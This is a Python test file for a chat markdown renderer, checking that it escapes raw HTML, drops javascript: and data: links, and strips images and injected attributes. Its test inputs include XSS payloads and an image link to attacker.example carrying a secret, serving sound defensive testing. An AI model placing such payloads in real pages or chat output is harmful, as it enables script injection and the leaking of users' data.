from chat.markdown import render


def test_it_escapes_raw_html_and_scripts():
    html = render('Hi <script>alert(1)</script> <img src=x onerror="alert(2)">')
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;" in html and "&lt;img" in html


def test_it_drops_javascript_links():
    html = render("[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)")
    assert "<a" not in html and "href" not in html


def test_raw_html_links_stay_text():
    html = render('<a href="javascript:x">y</a>')
    assert "<a" not in html and "&lt;a" in html


def test_images_are_dropped_so_they_cannot_leak_data():
    html = render("![x](https://attacker.example/?q=secret)")
    assert "<img" not in html and "attacker" not in html


def test_links_open_with_noopener():
    html = render("[docs](https://example.org/a?b=1)")
    assert 'href="https://example.org/a?b=1"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_fenced_code_keeps_its_language_and_escapes_content():
    html = render("```python\nprint('<b>hi</b>')\n```")
    assert '<pre><code class="language-python">' in html
    assert "&lt;b&gt;hi&lt;/b&gt;" in html


def test_a_hostile_code_class_is_dropped():
    html = render('```x" onmouseover="alert(1)\ncode\n```')
    assert "onmouseover" not in html
    assert "<pre><code>" in html


def test_tables_render_with_alignment():
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert "<table>" in html and "<th" in html and "<td" in html
    assert "text-align:right" in html.replace(" ", "")


def test_raw_table_html_is_escaped():
    html = render('<td style="position:fixed">x</td>')
    assert "<td" not in html


def test_plain_text_and_empty_input():
    assert render("") == ""
    assert render("**bold** and *em*") == "<p><strong>bold</strong> and <em>em</em></p>\n"
